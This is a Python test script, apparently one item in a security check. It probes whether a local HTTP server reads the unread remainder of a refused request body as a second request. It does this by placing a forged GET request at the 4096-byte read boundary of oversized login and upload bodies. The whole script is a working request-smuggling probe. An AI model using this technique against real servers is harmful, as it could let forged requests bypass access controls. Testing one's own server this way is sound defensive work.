# Item 3: a refused body that was only partly read; is its rest parsed as another request?
# The server reads the socket in 4096-byte pieces; the forged request is put where it stops reading.
import re, socket, sys
port = int(sys.argv[1]); key = sys.argv[2].encode()
forged = b'GET /forged HTTP/1.1\r\nHost: x\r\n\r\n'
def attempt(name, headfmt, prefix, stop_after, total=None, send_all=True):
    total = total or 100000
    head = headfmt % total
    consumed = 4096 - len(head)   # the first socket read holds the head and the body's start
    while stop_after is not None and consumed <= stop_after: consumed += 4096
    if stop_after is None: consumed = 0
    body = prefix + b'a' * (consumed - len(prefix)) + forged if consumed else forged
    if send_all: body += b'b' * (total - len(body))
    s = socket.create_connection(('127.0.0.1', port)); s.settimeout(3)
    s.sendall(head + body)
    data = b''
    try:
        while True:
            d = s.recv(65536)
            if not d: break
            data += d
    except OSError: pass
    if len(sys.argv) > 3: print(data[:2000])
    lines = re.findall(rb'HTTP/1\.1 \d\d\d [A-Za-z ]+', data)
    print('%-16s %d response(s): %s' % (name, len(lines), ' | '.join(l.decode() for l in lines)))
upload = b'POST /api/upload HTTP/1.1\r\nHost: x\r\nX-API-Key: ' + key + b'\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: %d\r\n\r\n'
attempt('JSON over 64 KiB', b'POST /api/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n',
        b'{"userName":"', 65536)
attempt('MULTIPLE_FILES', upload, b'--b\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\nx\r\n'
        b'--b\r\nContent-Disposition: form-data; name="file"; filename="b"\r\n\r\n', 0)
attempt('FILE_TOO_LARGE', upload, b'', None, total=3 << 30, send_all=False)
